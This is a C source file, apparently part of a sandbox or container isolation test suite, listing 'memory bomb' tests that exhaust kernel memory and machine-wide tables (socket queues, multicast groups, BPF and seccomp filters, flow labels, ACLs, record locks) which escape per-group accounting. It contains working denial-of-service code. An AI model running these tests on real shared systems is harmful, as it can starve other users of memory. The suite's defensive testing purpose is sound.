/* SPDX-License-Identifier: Apache-2.0 */
/* What the kernel keeps for sockets and charges to nobody's group, or takes from a table of the whole machine. Bounded as red_resource.c is. */
#include "redcell.h"

#include <arpa/inet.h>
#include <linux/filter.h>
#include <linux/net_tstamp.h>
#include <linux/netlink.h>
#include <linux/seccomp.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <pthread.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysinfo.h>
#include <sys/xattr.h>

#define MIB               (1L << 20)
#define IPV6_FLOW_MANAGER 32 /* IPV6_FLOWLABEL_MGR */
#define PROCESSES         15
#define GROUPS_EACH       119
#define SOURCES_EACH      64
#define ACL_ENTRIES       8000
#define FAR               (2 * MIB) /* another table each */

static char block[60000];

static void all_files(void)
{
	struct rlimit files;

	if (getrlimit(RLIMIT_NOFILE, &files) != 0)
		return;
	files.rlim_cur = files.rlim_max;
	(void)setrlimit(RLIMIT_NOFILE, &files);
}

/* Bytes that wait in socket @fd, with what the kernel takes beside. */
static long queued(int fd)
{
	uint32_t said[16] = { 0 };
	socklen_t n = sizeof(said);

	return getsockopt(fd, SOL_SOCKET, SO_MEMINFO, said, &n) == 0 ? (long)said[0] : 0;
}

static int roomy(int family, int type, int protocol)
{
	const int room = MIB;
	int fd = socket(family, type | SOCK_NONBLOCK | SOCK_CLOEXEC, protocol);

	if (fd >= 0)
		(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	return fd;
}

/* Acknowledgements of nothing. Return: bytes, -1: no socket. */
static long fill_netlink(void)
{
	static struct nlmsghdr asked[256];
	int fd = roomy(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);

	for (size_t i = 0; i < sizeof(asked) / sizeof(asked[0]); i++)
		asked[i] = (struct nlmsghdr){ .nlmsg_len = sizeof(asked[0]),
			.nlmsg_type = NLMSG_NOOP,
			.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK };
	for (int i = 0; fd >= 0 && i < 4; i++)
		(void)!send(fd, asked, sizeof(asked), 0);
	return fd < 0 ? -1 : queued(fd);
}

/* Its own answers. */
static long fill_ping(void)
{
	const struct sockaddr_in to = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	int fd = roomy(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);

	memset(block, 0, sizeof(struct icmphdr));
	block[0] = ICMP_ECHO;
	for (int i = 0; fd >= 0 && i < 12; i++)
		(void)!sendto(
			fd, block, sizeof(block), 0, (const struct sockaddr *)&to, sizeof(to));
	return fd < 0 ? -1 : queued(fd);
}

/* Return: sockets; @bytes: in all. */
static long fill_all(long want, long (*one)(void), long *bytes)
{
	long n = 0, more = 0;

	while (n < want && (more = one()) >= 0) {
		*bytes += more;
		n++;
	}
	return n;
}

/* Several at a time, and all but one in no hurry: whoever counts them must not miss those that are about to be made. */
static void fill(struct run *r, long (*one)(void))
{
	const struct sched_param idle = { 0 };
	long want = arg_number(r, "sockets", 200), bytes = 0;
	long *made = mmap(
		NULL, sizeof(*made), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	long *ended = mmap(
		NULL, sizeof(*ended), PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);

	all_files();
	for (int i = 0; i < PROCESSES; i++) {
		long own = 0;

		if (fork() != 0)
			continue;
		alarm(60);
		(void)sched_setscheduler(0, SCHED_IDLE, &idle);
		__atomic_add_fetch(made, fill_all(want, one, &own), __ATOMIC_RELAXED);
		__atomic_add_fetch(ended, 1, __ATOMIC_RELEASE);
		for (;;)
			pause();
	}
	__atomic_add_fetch(made, fill_all(want, one, &bytes), __ATOMIC_RELAXED);
	r->error = errno;
	while (__atomic_load_n(ended, __ATOMIC_ACQUIRE) < PROCESSES)
		usleep(1000);
	r->attempts++;
	remark(r, "%ld sockets, %ld MiB in those of one process", *made, bytes / MIB);
	if (*made >= want * (PROCESSES + 1))
		note(r, ESCAPED, "no limit up to %ld sockets", *made);
}

static void rx_02k(struct run *r)
{
	fill(r, fill_netlink);
}

static void rx_02l(struct run *r)
{
	fill(r, fill_ping);
}

static void name_address(struct sockaddr_storage *at, unsigned int kind, long number)
{
	struct sockaddr_in6 in6 = { .sin6_family = AF_INET6 };

	in6.sin6_addr.s6_addr[0] = (uint8_t)kind;
	in6.sin6_addr.s6_addr[1] = kind == 0xff ? 1 : 0;
	memcpy(&in6.sin6_addr.s6_addr[8], &number, sizeof(number));
	memcpy(at, &in6, sizeof(in6));
}

/* One group with sources, each of them another one in each. */
static int join(int fd, long number)
{
	struct group_req group = { .gr_interface = if_nametoindex("lo") };
	struct {
		struct group_filter head;
		struct sockaddr_storage more[SOURCES_EACH - 1];
	} filter = { .head = { .gf_interface = group.gr_interface,
			     .gf_fmode = MCAST_EXCLUDE,
			     .gf_numsrc = SOURCES_EACH } };

	name_address(&group.gr_group, 0xff, number);
	if (setsockopt(fd, IPPROTO_IPV6, MCAST_JOIN_GROUP, &group, sizeof(group)) != 0)
		return -1;
	filter.head.gf_group = group.gr_group;
	for (long i = 0; i < SOURCES_EACH; i++)
		name_address(i == 0 ? &filter.head.gf_slist[0] : &filter.more[i - 1], 0x20,
			number * SOURCES_EACH + i);
	(void)setsockopt(fd, IPPROTO_IPV6, MCAST_MSFILTER, &filter, sizeof(filter));
	return 0;
}

static void rx_02m(struct run *r)
{
	long want = arg_number(r, "sockets", 200), n = 0, groups = 0;

	all_files();
	for (; n < want; n++) {
		int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		for (int i = 0; fd >= 0 && i < GROUPS_EACH && join(fd, groups) == 0; i++)
			groups++;
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld groups", groups);
	if (groups >= want * GROUPS_EACH)
		note(r, ESCAPED, "no limit up to %ld groups", groups);
}

/* What has no socket of anybody's yet has no group either. */
static void rx_02n(struct run *r)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	long want = arg_number(r, "connections", 100), n = 0, sent = 0;
	const int room = 8 * MIB;
	socklen_t size = sizeof(at);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	all_files();
	(void)setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	if (bind(listener, (struct sockaddr *)&at, size) != 0 || listen(listener, 4096) != 0 ||
		getsockname(listener, (struct sockaddr *)&at, &size) != 0)
		return;
	for (; n < want; n++) {
		int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
		ssize_t one;

		if (fd < 0 ||
			(connect(fd, (struct sockaddr *)&at, size) != 0 && errno != EINPROGRESS))
			break;
		while ((one = send(fd, block, sizeof(block), 0)) > 0)
			sent += one;
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld MiB sent over %ld connections", sent / MIB, n);
}

/* A socket whose error queue keeps each datagram that it has sent, with the time of that. Return: bytes that wait in it, -1: no socket. */
static long fill_errors(bool disconnect)
{
	const struct sockaddr_in to = { .sin_family = AF_INET,
		.sin_port = htons(9),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	const struct sockaddr nobody = { .sa_family = AF_UNSPEC };
	const int room = 8 * MIB, times = SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_SOFTWARE;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return -1;
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	(void)setsockopt(fd, SOL_SOCKET, SO_TIMESTAMPING, &times, sizeof(times));
	for (int i = 0; i < 200; i++)
		(void)!sendto(
			fd, block, sizeof(block), 0, (const struct sockaddr *)&to, sizeof(to));
	if (disconnect)
		(void)connect(fd, &nobody, sizeof(nobody));
	return queued(fd);
}

/* As many as hold @mib between them. */
static void fill_with_errors(struct run *r, bool disconnect)
{
	long want = arg_number(r, "mib", 256) * MIB, bytes = 0, n = 0, one = 0;

	all_files();
	for (; n < 4000 && bytes < want && (one = fill_errors(disconnect)) >= 0; n++)
		bytes += one;
	r->attempts++;
	r->error = errno;
	remark(r, "%ld MiB in the error queues of %ld sockets", bytes / MIB, n);
}

static void rx_02o(struct run *r)
{
	fill_with_errors(r, false);
}

/* Without a port the kernel lists a socket nowhere. */
static void rx_02p(struct run *r)
{
	fill_with_errors(r, true);
}

/* What is sent by @from, and read by @to. */
static long pass(int from, int to, long want)
{
	long got = 0;

	while (got < want && send(from, block, sizeof(block), MSG_DONTWAIT) > 0) {
		ssize_t one;

		while ((one = recv(to, block, sizeof(block), MSG_DONTWAIT)) > 0)
			got += one;
	}
	return got;
}

/* A connection whose buffer has grown by itself; its error queue then has as much; and it is over. */
static long fill_connection(int listener, const struct sockaddr_in *at)
{
	const int times = SOF_TIMESTAMPING_TX_SOFTWARE | SOF_TIMESTAMPING_SOFTWARE;
	const struct linger reset = { .l_onoff = 1 };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), other;

	if (fd < 0 || connect(fd, (const struct sockaddr *)at, sizeof(*at)) != 0)
		return -1;
	other = accept4(listener, NULL, NULL, SOCK_CLOEXEC);
	if (other < 0)
		return -1;
	(void)pass(other, fd, 64 * MIB);
	(void)setsockopt(fd, SOL_SOCKET, SO_TIMESTAMPING, &times, sizeof(times));
	(void)pass(fd, other, 64 * MIB);
	(void)setsockopt(other, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset));
	(void)close(other);
	return queued(fd);
}

static void rx_02q(struct run *r)
{
	struct sockaddr_in at = { .sin_family = AF_INET,
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	long want = arg_number(r, "mib", 256) * MIB, bytes = 0, n = 0, one = 0;
	socklen_t size = sizeof(at);
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	all_files();
	if (bind(listener, (struct sockaddr *)&at, size) != 0 || listen(listener, 16) != 0 ||
		getsockname(listener, (struct sockaddr *)&at, &size) != 0)
		return;
	for (; n < 4000 && bytes < want && (one = fill_connection(listener, &at)) >= 0; n++)
		bytes += one;
	r->attempts++;
	r->error = errno;
	remark(r, "%ld MiB in the error queues of %ld connections that are over", bytes / MIB, n);
}

/* Each listing behind a change of a name is another copy of all names, as long as it is open. */
static void rx_02r(struct run *r)
{
	const long names = arg_number(r, "names", 3000), want = arg_number(r, "listings", 700);
	char path[64], entry[64];
	long n = 0;

	all_files();
	for (long i = 0; i < names; i++) {
		(void)snprintf(path, sizeof(path), "/srv/name-%ld", i);
		(void)close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
	}
	for (; n < want; n++) {
		int fd = open("/srv", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

		/* as little of it as can be said */
		if (fd < 0 || syscall(SYS_getdents64, fd, entry, sizeof(entry)) <= 0)
			break;
		(void)snprintf(path, sizeof(path), "/srv/name-%ld", n % names);
		(void)unlink(path);
		(void)close(open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld listings of %ld names", n, names);
}

static void rx_23(struct run *r)
{
	struct {
		struct in6_addr to;
		uint32_t label;
		uint8_t action, share;
		uint16_t flags, expires, linger;
		uint32_t pad;
	} asked = { .action = 0 /* get */, .share = 1 /* exclusive */, .flags = 1 /* create */ };
	long got = 0;

	asked.to.s6_addr[15] = 1;
	for (int i = 0; i < 40; i++) {
		int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		asked.label = 0;
		if (setsockopt(fd, IPPROTO_IPV6, IPV6_FLOW_MANAGER, &asked, sizeof(asked)) == 0)
			got++;
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld labels", got);
	if (got > 0)
		note(r, ESCAPED, "%ld flow labels of the machine's", got);
}

static void rx_24(struct run *r)
{
	static struct sock_filter code[400];
	struct sock_fprog program = { sizeof(code) / sizeof(code[0]), code };
	long want = arg_number(r, "filters", 600), got = 0;

	all_files();
	for (size_t i = 0; i < sizeof(code) / sizeof(code[0]) - 1; i++)
		code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_DIV | BPF_K, 3);
	code[program.len - 1] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0);
	while (got < want) {
		int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

		if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &program,
				      sizeof(program)) != 0)
			break;
		got++;
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld filters", got);
	if (got >= want)
		note(r, ESCAPED, "no limit up to %ld filters", got);
}

/* Each of them another one. */
static void *install_eight(void *got)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = { 2, code };

	for (int i = 0; i < 8; i++) {
		if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program) == 0)
			__atomic_add_fetch((long *)got, 1, __ATOMIC_RELAXED);
	}
	return NULL;
}

static void *install_and_stay(void *got)
{
	(void)install_eight(got);
	__atomic_add_fetch((long *)got + 1, 1, __ATOMIC_RELEASE);
	for (;;)
		pause();
	return NULL;
}

/* Processes, and one whose threads have their own. */
static void rx_25(struct run *r)
{
	const long processes = arg_number(r, "processes", 120), threads = 40;
	long *got = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pthread_t thread;
	long n = 0;

	(void)prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	for (; n < processes; n++) {
		pid_t pid = fork();

		if (pid < 0)
			break;
		if (pid == 0) {
			alarm(60);
			(void)install_and_stay(got);
		}
	}
	for (long i = 0; i < threads; i++)
		n += pthread_create(&thread, NULL, install_and_stay, got) == 0;
	while (__atomic_load_n(&got[1], __ATOMIC_ACQUIRE) < n)
		usleep(1000);
	(void)install_eight(got);
	r->attempts++;
	r->error = errno;
	remark(r, "%ld filters", got[0]);
	if (got[0] >= (n + 1) * 8)
		note(r, ESCAPED, "no limit up to %ld filters", got[0]);
}

/* One list in which the same user stands again and again. Return: its bytes. */
static size_t make_acl(char *to)
{
	struct entry {
		uint16_t tag, access;
		uint32_t id;
	} *e = (struct entry *)(to + sizeof(uint32_t));
	static const uint16_t last[] = { 0x04 /* group */, 0x10 /* mask */, 0x20 /* others */ };

	memcpy(to, &(uint32_t){ 2 /* version */ }, sizeof(uint32_t));
	*e++ = (struct entry){ 0x01 /* owner */, 7, UINT32_MAX };
	for (int i = 0; i < ACL_ENTRIES - 4; i++)
		*e++ = (struct entry){ 0x02 /* user */, 7, 0 };
	for (size_t i = 0; i < sizeof(last) / sizeof(last[0]); i++)
		*e++ = (struct entry){ last[i], 7, UINT32_MAX };
	return (size_t)((char *)e - to);
}

/* What waits to be refused is one file in memory; those who come through may have as many as there are inodes. */
static void rx_26(struct run *r)
{
	static char acl[sizeof(uint32_t) + 8L * ACL_ENTRIES] __attribute__((aligned(8)));
	const char *kinds[] = { "system.posix_acl_access", "system.posix_acl_default" };
	const size_t n = make_acl(acl);
	const struct {
		uint64_t value;
		uint32_t size, flags;
	} at = { (uint64_t)(uintptr_t)acl, (uint32_t)n, 0 };
	char path[64];

	(void)snprintf(path, sizeof(path), "/dev/shm/acl-%d", getpid());
	if (mkdir(path, 0700) != 0)
		return;
	int fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		attempt(r, "setxattr", setxattr(path, kinds[i], acl, n, 0));
		attempt(r, "lsetxattr", lsetxattr(path, kinds[i], acl, n, 0));
		attempt(r, "fsetxattr", fsetxattr(fd, kinds[i], acl, n, 0));
		attempt(r, "setxattrat",
			syscall(463L /* setxattrat */, AT_FDCWD, path, 0L, kinds[i], &at,
				sizeof(at)));
	}
	(void)close(fd);
	(void)rmdir(path);
}

/* Each byte that is locked by itself is an object of the kernel's. */
static void rx_02s(struct run *r)
{
	const long want = arg_number(r, "files", 900), each = arg_number(r, "locks", 400);
	char path[64];
	long n = 0;

	all_files();
	for (long i = 0; i < want; i++) {
		int fd;

		(void)snprintf(path, sizeof(path), "/tmp/locked-%ld", i);
		fd = open(path, O_CREAT | O_RDWR | O_CLOEXEC, 0600);
		for (long at = 0; fd >= 0 && at < each; at++) {
			struct flock lock = { .l_type = F_WRLCK, .l_start = 2 * at, .l_len = 1 };

			n += fcntl(fd, F_SETLK, &lock) == 0;
		}
	}
	r->attempts++;
	r->error = errno;
	remark(r, "%ld record locks", n);
}

/* Each answer that is written to a page which is not there has tables made for it, by whoever answers: the kernel, or somebody without a limit. */
static void rx_27(struct run *r)
{
	const long calls = arg_number(r, "calls", 6000);
	const int fd = memfd_create("far", MFD_CLOEXEC);
	struct sysinfo first;
	char *at;
	long n = 0;

	if (fd < 0 || ftruncate(fd, calls * FAR) != 0 || syscall(SYS_sysinfo, &first) != 0)
		return;
	at = mmap(NULL, (size_t)(calls * FAR), PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (at == MAP_FAILED)
		return;
	for (long i = 0; i < calls; i++) {
		const struct sysinfo *said = (const struct sysinfo *)(at + i * FAR);

		/* its data are charged as they should be: given back */
		if (syscall(SYS_sysinfo, said) != 0 || said->totalram != first.totalram)
			break;
		n++;
		(void)fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, i * FAR, 4096);
	}
	r->attempts++;
	remark(r, "%ld answers", n);
	if (n == calls)
		note(r, ESCAPED, "no limit up to %ld tables", n);
}

const struct attack attacks_uncharged[] = {
	{ "RX-02K", "memory bomb: answers of netlink that nobody reads", rx_02k },
	{ "RX-02L", "memory bomb: answers to pings that nobody reads", rx_02l },
	{ "RX-02M", "memory bomb: groups of IPv6 multicast and their sources", rx_02m },
	{ "RX-02N", "memory bomb: TCP connections that nobody accepts", rx_02n },
	{ "RX-02O", "memory bomb: error queues of UDP sockets", rx_02o },
	{ "RX-02P", "memory bomb: error queues of UDP sockets without a port", rx_02p },
	{ "RX-02Q", "memory bomb: error queues of TCP connections that are over", rx_02q },
	{ "RX-02R", "memory bomb: listings of directories that stay open", rx_02r },
	{ "RX-02S", "memory bomb: record locks", rx_02s },
	{ "RX-23", "takes the machine's IPv6 flow labels", rx_23 },
	{ "RX-24", "takes the machine's room for compiled filters: of sockets", rx_24 },
	{ "RX-25", "takes the machine's room for compiled filters: of system calls", rx_25 },
	{ "RX-26", "memory bomb: access lists of files in memory", rx_26 },
	{ "RX-27", "memory bomb: tables of pages that an answer is written to", rx_27 },
	{ NULL, NULL, NULL },
};
